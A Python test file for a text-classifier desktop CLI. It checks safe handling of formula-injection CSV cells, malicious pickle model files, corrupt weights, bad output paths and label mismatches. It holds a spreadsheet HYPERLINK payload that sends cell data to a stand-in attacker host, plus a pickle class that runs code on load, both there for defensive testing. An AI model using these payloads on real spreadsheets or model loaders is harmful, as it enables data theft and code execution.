"""predict / evaluate with hostile or careless inputs: formulas, outputs over their own run, broken or
unsafe model folders, unfinished runs, labels that do not match (exit 2 with a fix, never a traceback)."""

from __future__ import annotations

import csv
import json
import os
import pickle
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from desktop_app.cli.app import main

LABELS = ["=SUM(1)", "billing", "bug"]
HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A2,"details")'


def make_run(model_src: Path, folder: Path, labels=LABELS, status="finished", epoch=None, planned=None) -> Path:
    from transformers import AutoModelForSequenceClassification, AutoTokenizer

    model = AutoModelForSequenceClassification.from_pretrained(
        model_src, num_labels=len(labels), id2label=dict(enumerate(labels)), label2id={l: i for i, l in enumerate(labels)})
    model.save_pretrained(folder / "model")
    AutoTokenizer.from_pretrained(model_src).save_pretrained(folder / "model")
    record = {"status": status, "labels": list(labels), "settings": {"max_length": 32, "epochs": planned},
              "final_metrics": {"epoch": epoch} if epoch is not None else {}}
    (folder / "run.json").write_text(json.dumps(record), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def base_run(tiny_models, tmp_path_factory) -> Path:
    return make_run(tiny_models["distilbert"], tmp_path_factory.mktemp("runs") / "run")


@pytest.fixture
def run(base_run, tmp_path) -> Path:
    copy = tmp_path / "run"
    shutil.copytree(base_run, copy)
    return copy


@pytest.fixture
def docs(tmp_path) -> Path:
    path = tmp_path / "docs.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "text"])
        w.writerows([[1, HOSTILE_TEXT], [2, "my invoice shows a double charge"], [3, "-the app crashes"], [4, "@admin help"]])
    return path


def cli(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def _formulas(path: Path) -> int:
    with zipfile.ZipFile(path) as z:
        return sum(z.read(n).count(b"<f") for n in z.namelist() if n.startswith("xl/worksheets/"))


# ----------------------------------------------------------------------------- formulas

def test_predict_csv_has_no_live_formulas(capsys, run, docs, tmp_path):
    out = tmp_path / "preds.csv"
    code, _, err = cli(capsys, "predict", run, docs, "--out", out)
    assert code == 0, err
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    cells = [c for r in rows for c in r]
    assert "'" + HOSTILE_TEXT in cells and "'-the app crashes" in cells and "'@admin help" in cells
    assert "prob_=SUM(1)" in rows[0]  # a header that does not start with a formula character is left alone
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_predict_to_xlsx_from_the_cli(capsys, run, docs, tmp_path):
    out = tmp_path / "preds.xlsx"
    code, _, err = cli(capsys, "predict", run, docs, "--out", out)
    assert code == 0, err
    assert _formulas(out) == 0
    ws = openpyxl.load_workbook(out).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("id", "text", "predicted_label") and len(rows) == 5
    assert rows[1][1] == HOSTILE_TEXT  # kept as text, not run
    assert isinstance(rows[1][3], float)  # confidence is a number


# ----------------------------------------------------------------------------- where outputs go

def test_predict_over_its_own_run_is_refused(capsys, run, docs):
    config = run / "model" / "config.json"
    before = config.read_bytes()
    code, _, err = cli(capsys, "predict", run, docs, "--out", config.with_suffix(".csv"))
    assert code == 2 and "inside" in err
    code, _, err = cli(capsys, "predict", run, docs, "--out", docs)
    assert code == 2 and "overwrite the input" in err
    assert config.read_bytes() == before


@pytest.mark.parametrize("where", ["folder", "under_a_file", "read_only"])
def test_unusable_out_is_exit_2(capsys, run, docs, tmp_path, monkeypatch, where):
    if where == "folder":
        out = tmp_path
    elif where == "under_a_file":
        out = docs.parent / "notes.txt" / "preds.csv"
        (docs.parent / "notes.txt").write_text("x")
    else:
        from desktop_app.core import outputs

        monkeypatch.setattr(outputs, "_writable", lambda folder: False)
        out = tmp_path / "ro" / "preds.csv"
    code, _, err = cli(capsys, "predict", run, docs, "--out", out)
    assert code == 2, err
    assert "Fix:" in err and "Traceback" not in err


# ----------------------------------------------------------------------------- broken model folders

def test_missing_weights_is_exit_2(capsys, run, docs, tmp_path):
    (run / "model" / "model.safetensors").unlink()
    code, _, err = cli(capsys, "predict", run, docs, "--out", tmp_path / "p.csv")
    assert code == 2 and "no weights file" in err and "Fix:" in err
    code, _, err = cli(capsys, "evaluate", run, docs)
    assert code == 2 and "no weights file" in err


def test_corrupt_weights_is_exit_2(capsys, run, docs, tmp_path):
    weights = run / "model" / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[: weights.stat().st_size // 2])
    code, _, err = cli(capsys, "predict", run, docs, "--out", tmp_path / "p.csv")
    assert code == 2 and "damaged or incomplete" in err


def test_label_count_mismatch_is_exit_2(capsys, run, docs, tmp_path):
    record = json.loads((run / "run.json").read_text())
    record["labels"] = ["a", "b"]
    (run / "run.json").write_text(json.dumps(record))
    code, _, err = cli(capsys, "predict", run, docs, "--out", tmp_path / "p.csv")
    assert code == 2 and "3 classes but the run has 2 labels" in err


class _Evil:
    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _malicious_folder(run: Path, marker: Path, zip_format: bool) -> Path:
    import torch

    model = run / "model"
    (model / "model.safetensors").unlink()
    if zip_format:
        torch.save({"weight": _Evil(marker)}, model / "pytorch_model.bin")
    else:
        with open(model / "pytorch_model.bin", "wb") as fh:
            pickle.dump({"weight": _Evil(marker)}, fh)
    return model


@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize("zip_format", [True, False])
def test_malicious_pickle_runs_no_code(capsys, run, docs, tmp_path, zip_format):
    marker = tmp_path / "pwned"
    model = _malicious_folder(run, marker, zip_format)
    code, _, err = cli(capsys, "predict", run, docs, "--out", tmp_path / "p.csv")
    assert code == 2 and "could run code" in err
    assert not marker.exists()
    # and the library underneath refuses it too (transformers 5 loads .bin with weights_only=True)
    from transformers import AutoModelForSequenceClassification

    with pytest.raises(Exception):  # noqa: B017 - any refusal will do; what matters is that no code ran
        AutoModelForSequenceClassification.from_pretrained(model)
    assert not marker.exists()


# ----------------------------------------------------------------------------- unfinished runs

def test_predict_on_an_unfinished_run_says_which_model_it_uses(capsys, tiny_models, docs, tmp_path):
    run = make_run(tiny_models["distilbert"], tmp_path / "killed", status="running", epoch=1.0, planned=3.0)
    code, _, err = cli(capsys, "predict", run, docs, "--out", tmp_path / "p.csv")
    assert code == 0, err
    assert "did not finish" in err and "after epoch 1 of 3" in err and "--resume" in err


def test_a_run_without_a_model_is_exit_2(capsys, docs, tmp_path):
    run = tmp_path / "early"
    run.mkdir()
    (run / "run.json").write_text(json.dumps({"status": "running", "labels": ["a", "b"]}))
    code, _, err = cli(capsys, "predict", run, docs, "--out", tmp_path / "p.csv")
    assert code == 2 and "no model yet" in err and "--resume" in err


# ----------------------------------------------------------------------------- evaluate

def _labeled(path: Path, rows) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["text", "label"])
        w.writerows(rows)
    return path


def test_evaluate_with_no_shared_label_is_exit_2_listing_both(capsys, run, tmp_path):
    data = _labeled(tmp_path / "other.csv", [["great movie", "positive"], ["awful plot", "negative"]] * 3)
    code, _, err = cli(capsys, "evaluate", run, data)
    assert code == 2
    assert "'negative', 'positive'" in err and "'=SUM(1)', 'billing', 'bug'" in err


def test_evaluate_with_partly_known_labels_scores_the_known_rows(capsys, run, tmp_path):
    data = _labeled(tmp_path / "mixed.csv", [["refund my charge", "billing"], ["it crashes", "bug"], ["hello", "greeting"],
                                              ["why", "NaN"], ["what", "null"]])
    code, out, err = cli(capsys, "evaluate", run, data, "--json")
    assert code == 0, err
    result = json.loads(out.strip().splitlines()[-1])
    assert result["n"] == 2 and result["left_out"] == {"greeting": 1}
    assert "greeting" in err and "left out" in err
    assert "2 rows have 'NaN'" in err  # placeholders are missing labels, not a class
    assert "NaN" not in result["labels"] and "null" not in result["labels"]


# ----------------------------------------------------------------------------- sheets

def test_predict_sheet_choice(capsys, run, tmp_path):
    book = tmp_path / "report.xlsx"
    wb = openpyxl.Workbook()
    title = wb.active
    title.title = "Title"
    title["A1"] = "Quarterly support report"
    data = wb.create_sheet("Tickets")
    data.append(["id", "text"])
    for i in range(5):
        data.append([i, f"my invoice {i} shows a double charge"])
    wb.save(book)
    code, _, err = cli(capsys, "predict", run, book, "--out", tmp_path / "p.csv", "--text-column", "text")
    assert code == 2 and "'Tickets'" in err and "--sheet" in err
    code, _, err = cli(capsys, "predict", run, book, "--out", tmp_path / "p.csv", "--sheet", "Tickets")
    assert code == 0, err
    assert len((tmp_path / "p.csv").read_text(encoding="utf-8").splitlines()) == 6
    code, _, err = cli(capsys, "predict", run, book, "--out", tmp_path / "p.csv", "--sheet", "Nope")
    assert code == 2 and "no sheet named 'Nope'" in err and "'Title', 'Tickets'" in err
    assert os.path.exists(tmp_path / "p.csv")


def test_predict_file_may_write_beside_but_never_into_the_runs_own_files(run, docs):
    from desktop_app.core.errors import UserInputError
    from desktop_app.core.predict import predict_file

    summary = predict_file(run, docs, run / "predictions" / "docs-predictions.csv")  # where the app keeps them
    assert summary["rows"] == 4
    for bad in (run / "model" / "config.csv", run / "checkpoint" / "p.csv"):
        with pytest.raises(UserInputError, match="inside"):
            predict_file(run, docs, bad)
